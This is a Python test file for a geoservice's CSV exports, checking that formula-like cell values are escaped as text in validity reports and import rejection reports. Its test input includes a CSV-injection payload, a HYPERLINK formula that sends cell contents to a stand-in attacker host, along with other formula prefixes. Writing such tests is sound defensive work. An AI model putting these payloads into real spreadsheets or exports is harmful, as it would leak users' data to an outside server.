"""Every CSV the service or the CLI writes is safe to open in a spreadsheet: a cell that would start a formula
(=, +, -, @, tab, carriage return) is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path

from fastapi.testclient import TestClient
from typer.testing import CliRunner

from geoservice import csvsafe
from geoservice.timeutil import LOCAL_TZ
from tests.conftest import bearer
from tests.helpers import GOTHERSGADE, offset, square, zone_feature

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
FORMULAS = [LINK, "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def test_the_rule() -> None:
    for text in FORMULAS:
        assert csvsafe.cell(text) == "'" + text
    assert csvsafe.cell("Nattelivszone Gothersgade") == "Nattelivszone Gothersgade"
    assert csvsafe.cell(-22.5) == -22.5 and csvsafe.cell(-3) == -3  # numbers are data
    assert csvsafe.cell("-3") == "'-3"  # text that looks like a number is text
    assert csvsafe.cell(None) == "" and csvsafe.cell(True) == "True"
    rows = list(csv.reader(io.StringIO(csvsafe.write([{"a": LINK, "b": -1.5}], ["a", "b"]))))
    assert rows == [["a", "b"], ["'" + LINK, "-1.5"]]


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict[str, str]], numeric: set[str]) -> None:
    for row in rows:
        for column, value in row.items():
            if column in numeric and value:
                float(value)  # a number as it is, a negative one included
            else:
                assert not value.startswith(csvsafe.FORMULA_START), (column, value)


def test_the_validity_report_csv_over_the_api_and_the_cli(own_client: TestClient, tokens: dict, own_db: str) -> None:
    """On a clone of its own: the zones it adds are in force now, which the public map tests would see."""
    client = own_client
    today = dt.datetime.now(LOCAL_TZ).date()
    admin = bearer(tokens["admin"])
    # expiring in three days, with a name that is a formula
    expiring = client.post("/api/v1/zones", headers=admin, json=zone_feature(
        square(*offset(*GOTHERSGADE, -16000, 9000), 150), name=LINK, decision_ref="+SUM(1,2)",
        valid_from=(today - dt.timedelta(days=30)).isoformat(), valid_to=(today + dt.timedelta(days=3)).isoformat()))
    assert expiring.status_code == 201, expiring.text
    # a kind rule overridden (three years for a nightlife zone) with a reason that is a formula
    override = client.post("/api/v1/zones", headers=admin, json=zone_feature(
        square(*offset(*GOTHERSGADE, -16000, 10000), 150), name="-2+3", override_reason="@SUM(A1:A9) tre år",
        valid_from=today.isoformat(), valid_to=(today + dt.timedelta(days=3 * 365)).isoformat()))
    assert override.status_code == 201, override.text
    numeric = {"zone_id", "days_left", "warning_window_days", "version"}

    response = client.get("/api/v1/validity/report", params={"format": "csv"}, headers=bearer(tokens["legal"]))
    assert response.headers["content-type"].startswith("text/csv")
    rows = cells(response.text)
    mine = {r["zone_id"]: r for r in rows if r["zone_id"] in (str(expiring.json()["id"]), str(override.json()["id"]))}
    assert mine[str(expiring.json()["id"])]["name"] == "'" + LINK
    overridden = next(r for r in rows if r["section"] == "overrides" and r["zone_id"] == str(override.json()["id"]))
    assert overridden["name"] == "'-2+3" and overridden["reason"] == "'@SUM(A1:A9) tre år"
    assert any(r["days_left"].startswith("-") for r in rows)  # expired zones: negative days, as numbers
    assert_no_formula(rows, numeric)

    env = {**os.environ, "GEOSERVICE_DB_NAME": own_db}
    cli = subprocess.run([sys.executable, "-m", "geoservice.cli", "validity", "report", "--format", "csv",
                          "--fail-on", "never"], env=env, capture_output=True, text=True, timeout=120)
    assert cli.returncode == 0, cli.stderr
    cli_rows = cells(cli.stdout)
    assert "'" + LINK in [r["name"] for r in cli_rows]
    assert_no_formula(cli_rows, numeric)


def test_the_rejected_rows_report_of_an_import(own_db: str, tmp_path: Path, monkeypatch) -> None:
    from geoservice.cli import app
    from geoservice.settings import get_settings

    source = tmp_path / "incidents.csv"
    source.write_text(
        "id,category,occurred_at,lat,lon,precision_m\n"
        "F-1,vold,2025-09-01T23:40:00+02:00,55.68,12.57,\n"
        f'F-2,"{LINK.replace(chr(34), chr(34) * 2)}",2025-09-01T23:40:00+02:00,55.68,12.57,\n'
        "F-3,vold,@SUM(A1),55.68,12.57,\n"
        "F-4,vold,2025-09-01T23:40:00+02:00,55.68,12.57,-5\n"
        "F-5,vold,2025-09-01T23:40:00+02:00,+55.68,=12.57,\n", encoding="utf-8")
    report = tmp_path / "rejected.csv"
    monkeypatch.setenv("GEOSERVICE_DB_NAME", own_db)
    get_settings.cache_clear()
    try:
        result = CliRunner().invoke(app, ["overlays", "import-incidents", str(source), "--source", "csv-safety",
                                          "--skip-invalid", "--quiet", "--rejected-report", str(report)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    rows = cells(report.read_text(encoding="utf-8"))
    values = {r["line"]: r["value"] for r in rows}
    assert values["3"] == "'" + LINK and values["4"] == "'@SUM(A1)" and values["5"] == "'-5"
    assert values["6"].startswith("'+55.68")
    assert_no_formula(rows, {"line"})
